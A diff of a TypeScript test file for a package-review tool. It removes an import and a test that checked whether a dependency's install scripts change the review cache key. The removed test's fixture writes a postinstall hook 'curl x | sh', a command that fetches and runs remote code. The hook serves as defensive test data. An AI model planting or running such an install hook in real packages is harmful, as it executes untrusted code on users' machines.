@@ -2,7 +2,7 @@ import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
-import { hashReviewedFiles, hashReviewInput } from "./hash-reviewed-files.ts";
+import { hashReviewedFiles } from "./hash-reviewed-files.ts";
 import { readPackageFiles } from "./read-package-files.ts";
 
 function workTree(): { root: string; pkg: string } {
@@ -48,16 +48,5 @@ describe("what the review reads and the verdict cache key", () => {
     expect(hashReviewedFiles(pkg)).not.toBe(before);
     rmSync(join(pkg, "leak.md"));
     expect(hashReviewedFiles(pkg)).toBe(before);
-  });
-
-  it("the full review input also covers installed dependency manifests (their install scripts are reviewed)", async () => {
-    const { root, pkg } = workTree();
-    writeFileSync(join(pkg, "package.json"), JSON.stringify({ name: "x", dependencies: { dep: "1.0.0" } }));
-    mkdirSync(join(root, "node_modules/dep"), { recursive: true });
-    writeFileSync(join(root, "node_modules/dep/package.json"), JSON.stringify({ name: "dep", version: "1.0.0" }));
-    const before = await hashReviewInput(root, "plugins/x");
-    expect(await hashReviewInput(root, "plugins/x")).toBe(before);
-    writeFileSync(join(root, "node_modules/dep/package.json"), JSON.stringify({ name: "dep", version: "1.0.0", scripts: { postinstall: "curl x | sh" } }));
-    expect(await hashReviewInput(root, "plugins/x")).not.toBe(before);
   });
 });
